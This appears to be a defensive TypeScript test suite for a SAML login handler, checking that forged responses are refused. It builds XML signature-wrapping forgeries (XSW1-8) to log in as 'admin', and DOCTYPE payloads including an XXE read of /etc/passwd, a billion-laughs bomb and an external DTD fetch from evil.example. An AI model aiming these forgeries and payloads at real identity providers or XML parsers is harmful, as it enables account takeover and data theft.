import assert from 'node:assert/strict'
import { createHmac, sign } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { sealed } from '../../support/saml/encryption.ts'
import {
  assertionOf,
  makeProviderKey,
  responseOf,
  signatureOf,
  signed,
  signedResponse,
  type ProviderKey,
  type Said,
} from '../../support/saml/provider.ts'
import { sessionCount, startSaml, type SamlWorld } from '../../support/saml/world.ts'

let world: SamlWorld
let mallory: ProviderKey
before(async () => {
  world = await startSaml()
  mallory = await makeProviderKey()
})
after(() => world.warder.close())

/** A message as an attacker makes it of a good one, which is refused without a session for anybody. */
async function refused(make: (said: Said) => string, reason?: string | RegExp): Promise<void> {
  const browser = world.warder.browser()
  const said = world.says({ in_response_to: await world.begin(browser) })
  const { length } = world.warder.lines
  const page = await world.bring(browser, make(said))
  assert.match(page.path, /^\/login\?with=con_\w+&why=(failed|denied)$/)
  assert.equal(await sessionCount(world.warder), 0)
  const logged = world.warder.lines.slice(length).join('\n')
  const found = /"reason":"(\w+)"/.exec(logged)?.[1] ?? 'denied'
  if (typeof reason === 'string') assert.equal(found, reason)
  else if (reason) assert.match(found, reason)
}

const behindIssuer = (text: string, more: string) =>
  text.replace('</saml:Issuer>', () => `</saml:Issuer>${more}`)
const inside = (text: string, tag: string, more: string) => {
  const at = text.lastIndexOf(`</${tag}>`)
  return text.slice(0, at) + more + text.slice(at)
}

/** What the attacker would like to have said, under a name of its own or that of the original. */
const evil = (said: Said, id: string): Said => ({
  ...said,
  id,
  name_id: 'admin',
  attributes: { email: ['admin@acme.example'] },
})

/** The transformations of SAMLRaider, in its numbers. */
// oxfmt-ignore
const wrappings: Record<string, (said: Said, bad: Said) => string> = {
  'XSW1: the signed response within its own signature': (said, bad) => {
    const good = responseOf(said, assertionOf(said))
    return behindIssuer(responseOf(bad, assertionOf(bad)), inside(signatureOf(good, world.key), 'ds:Signature', good))
  },
  'XSW2: the signed response beside its signature': (said, bad) => {
    const good = responseOf(said, assertionOf(said))
    return behindIssuer(responseOf(bad, assertionOf(bad)), good + signatureOf(good, world.key))
  },
  'XSW3: another assertion before the signed one': (said, bad) =>
    responseOf(said, assertionOf(bad) + signed(assertionOf(said), world.key)),
  'XSW4: the signed assertion within another': (said, bad) =>
    responseOf(said, inside(assertionOf(bad), 'saml:Assertion', signed(assertionOf(said), world.key))),
  'XSW5: the signature in another assertion, the signed one behind it': (said, bad) =>
    responseOf(said, behindIssuer(assertionOf(bad), signatureOf(assertionOf(said), world.key)) + assertionOf(said)),
  'XSW6: the signed assertion within the signature of another': (said, bad) =>
    responseOf(said, behindIssuer(assertionOf(bad), inside(signatureOf(assertionOf(said), world.key), 'ds:Signature', assertionOf(said)))),
  'XSW7: another assertion in the extensions': (said, bad) =>
    responseOf(said, `<samlp:Extensions>${assertionOf(bad)}</samlp:Extensions>${signed(assertionOf(said), world.key)}`),
  'XSW8: the signed assertion in an object of the signature': (said, bad) =>
    responseOf(said, behindIssuer(assertionOf(bad), inside(signatureOf(assertionOf(said), world.key), 'ds:Signature', `<ds:Object>${assertionOf(said)}</ds:Object>`))),
}

describe('SA-01 signature wrapping', () => {
  for (const [name, wrap] of Object.entries(wrappings))
    for (const same of [true, false])
      test(`SA-01 ${name}, ${same ? 'with the same id' : 'with another id'}`, () =>
        refused((said) => wrap(said, evil(said, same ? said.id : '_evil'))))

  test('SA-01 another assertion in the advice of the signed one', () =>
    refused((said) => {
      const bad = assertionOf(evil(said, '_evil'))
      const good = assertionOf(said).replace(
        '<saml:AuthnStatement',
        `<saml:Advice>${bad}</saml:Advice><saml:AuthnStatement`,
      )
      return responseOf(said, signed(good, world.key))
    }, 'several_assertions'))
})

describe('SA-02 what is not signed', () => {
  test('SA-02 a response without any signature', () =>
    refused((said) => responseOf(said, assertionOf(said)), 'unsigned'))

  test('SA-02 the same, encrypted to us, which anybody can do', async () => {
    const { certificate } = await world.warder.app.db
      .selectFrom('connection')
      .select('certificate')
      .executeTakeFirstOrThrow()
    await refused(
      (said) => responseOf(said, sealed(assertionOf(said), certificate, 'aes-128-gcm')),
      'unsigned',
    )
    // XML Encryption 1.1 §5.5.1: its errors tell what was encrypted (Bleichenbacher 1998).
    const pkcs1 = (said: Said) =>
      sealed(signed(assertionOf(said), world.key), certificate, 'aes-128-gcm', 'pkcs1')
    await refused((said) => responseOf(said, pkcs1(said)), 'encryption')
  })

  test('SA-02 a signed response alone, where the assertion has to be signed', async () => {
    const strict = await startSaml({ signed_assertion: true })
    const browser = strict.warder.browser()
    const said = strict.says({ in_response_to: await strict.begin(browser) })
    const response = signed(responseOf(said, assertionOf(said)), strict.key)
    assert.match((await strict.bring(browser, response)).path, /why=failed/)
    assert.equal(await sessionCount(strict.warder), 0)
    const both = signed(responseOf(said, signed(assertionOf(said), strict.key)), strict.key)
    assert.equal((await strict.bring(browser, both)).path, '/account')
    await strict.warder.close()
  })
})

test('SA-03 a key that the message brings along counts for nothing', () =>
  refused((said) => {
    const certificate = mallory.certificate.replace(/-----[^-]+-----|\s/g, '')
    const key_info = `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${certificate}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`
    return signedResponse(evil(said, said.id), mallory, { key_info })
  }, 'signature'))

describe('SA-04 two assertions', () => {
  for (const first of ['the signed one', 'the other one'])
    test(`SA-04 ${first} first`, () =>
      refused((said) => {
        const good = signed(assertionOf(said), world.key)
        const bad = assertionOf(evil(said, '_evil'))
        return responseOf(said, first === 'the signed one' ? good + bad : bad + good)
      }, 'several_assertions'))
})

// oxfmt-ignore
const cut: [what: string, name_id: string, reason: string][] = [
  ['a comment',                  'admin@acme.example<!---->.evil.example',          'comment'],
  ['a processing instruction',   'admin@acme.example<?x?>.evil.example',            'instruction'],
  ['a CDATA section',            '<![CDATA[admin@acme.example]]>.evil.example',     'cdata'],
  ['an element',                 'admin@acme.example<b></b>.evil.example',          'nested'],
]
for (const [what, name_id, reason] of cut)
  test(`SA-05 a name with ${what} in it, whose parts other readers would take for the whole`, () =>
    refused((said) => {
      // Signed as if it were not there, which is how comments are signed.
      const clean = assertionOf({ ...said, name_id: 'NAME' })
      const text = what === 'a comment' ? 'admin@acme.example.evil.example' : name_id
      return responseOf(said, signed(clean.replace('NAME', text), world.key).replace(text, name_id))
    }, reason))

const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
// oxfmt-ignore
const doctypes: [what: string, doctype: string, used: string][] = [
  ['a document type',      '<!DOCTYPE samlp:Response>',                                                             ''],
  ['an external entity',   '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',                                '&x;'],
  ['a billion laughs',     `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs.join('')}]>`,                                    '&l9;'],
  ['a parameter entity',   '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',                   ''],
]
for (const [what, doctype, used] of doctypes)
  test(`SA-07 ${what}`, () =>
    refused((said) => doctype + signedResponse(said, world.key).replace('ada-7', `ada-7${used}`), 'doctype'))

describe('SA-08 signatures of another form', () => {
  test('SA-08 two times what is signed', () =>
    refused((said) => {
      const text = signedResponse(said, world.key)
      const [signedInfo = ''] = /<ds:SignedInfo.*?<\/ds:SignedInfo>/.exec(text) ?? []
      return text.replace(signedInfo, () => signedInfo + signedInfo)
    }, 'signature_form'))

  test('SA-08 a comment in the digest', () =>
    refused(
      (said) => signedResponse(said, world.key).replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->'),
      'comment',
    ))

  test('SA-08 two signatures of one assertion', () =>
    refused((said) => {
      const good = signedResponse(said, world.key)
      const [signature = ''] = /<ds:Signature .*?<\/ds:Signature>/.exec(good) ?? []
      return good.replace(signature, () => signature + signature)
    }, /repeated|id/))

  test('SA-08 a signature of something else in the message', () =>
    refused((said) => {
      const other = assertionOf({ ...said, id: '_other' })
      return responseOf(said, behindIssuer(assertionOf(said), signatureOf(other, world.key)))
    }, 'reference'))
})

// oxfmt-ignore
const algorithms: [what: string, method: string][] = [
  ['HMAC with the certificate as its key', 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'],
  ['HMAC with SHA-256',                    'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256'],
  ['SHA-1',                                'http://www.w3.org/2000/09/xmldsig#rsa-sha1'],
  ['one that nobody knows',                'urn:example:none'],
]
for (const [what, signature_method] of algorithms)
  test(`SA-11 ${what} is no signature`, () =>
    refused(
      (said) =>
        signedResponse(said, world.key, {
          signature_method,
          sign: (text) =>
            signature_method.includes('hmac')
              ? createHmac('sha1', world.key.certificate).update(text).digest('base64')
              : sign('sha1', Buffer.from(text), world.key.key).toString('base64'),
        }),
      'algorithm',
    ))

test('SA-11 a digest of SHA-1 is none', () =>
  refused((said) => {
    const digest_method = 'http://www.w3.org/2000/09/xmldsig#sha1'
    return signedResponse(said, world.key, {
      digest_method,
      sign: (text) => sign('sha256', Buffer.from(text), world.key.key).toString('base64'),
    })
  }, 'algorithm'))

for (const attribute of ['Id', 'id', 'xml:id'])
  test(`SA-01 an id that is written as ${attribute}, which another reader may look for`, () =>
    refused(
      (said) =>
        signedResponse(said, world.key).replace('<samlp:Response ', `<samlp:Response ${attribute}="_x" `),
      'id',
    ))
